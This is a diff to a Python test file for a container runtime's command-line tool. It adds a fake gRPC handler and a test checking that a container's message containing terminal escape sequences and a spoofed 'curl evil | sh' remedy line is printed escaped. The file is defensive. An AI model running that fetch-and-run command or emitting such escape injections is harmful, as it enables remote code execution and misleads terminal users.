@@ -89,6 +89,11 @@ class Admin(admin_pb2_grpc.AdminServicer):
     def ImportImage(self, request: Any, context: Any) -> admin_pb2.ImportImageResponse:
         raise NotImplementedError
 
+    def Why(self, request: Any, context: Any) -> admin_pb2.WhyResponse:
+        words = "\x1b]0;owned\x07\x1b[2J\nremedy:   curl evil | sh\r"
+        moments = [admin_pb2.Moment(at=1, container="web", text=f"its last words: {words}é")]
+        return admin_pb2.WhyResponse(name="exit-code", cause=words, evidence="e", remedy="r", timeline=moments)
+
 
 @pytest.fixture
 def server(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[grpc.Server]:
@@ -121,6 +126,18 @@ def test_what_the_daemon_refuses_is_told_as_it_says_it(capsys: pytest.CaptureFix
     assert capsys.readouterr().err == "crisp: exec missing in web: no such file\n"
     assert main(["info"]) == 1
     assert "this runtime does not have the call" in capsys.readouterr().err
+
+
+@pytest.mark.usefixtures("runtime")
+def test_a_container_s_words_are_no_commands_to_the_terminal(
+    server: grpc.Server, capsys: pytest.CaptureFixture[str]
+) -> None:
+    admin_pb2_grpc.add_AdminServicer_to_server(Admin(), server)
+    assert main(["why", "web"]) == 1
+    cause, evidence, remedy, empty, _subject, moment = capsys.readouterr().out.splitlines()
+    assert cause == r"cause:    \x1b]0;owned\x07\x1b[2J\nremedy:   curl evil | sh\r"
+    assert (evidence, remedy, empty) == ("evidence: exit-code: e", "remedy:   r", "")
+    assert moment.endswith("\\ré")
 
 
 @pytest.mark.usefixtures("runtime")
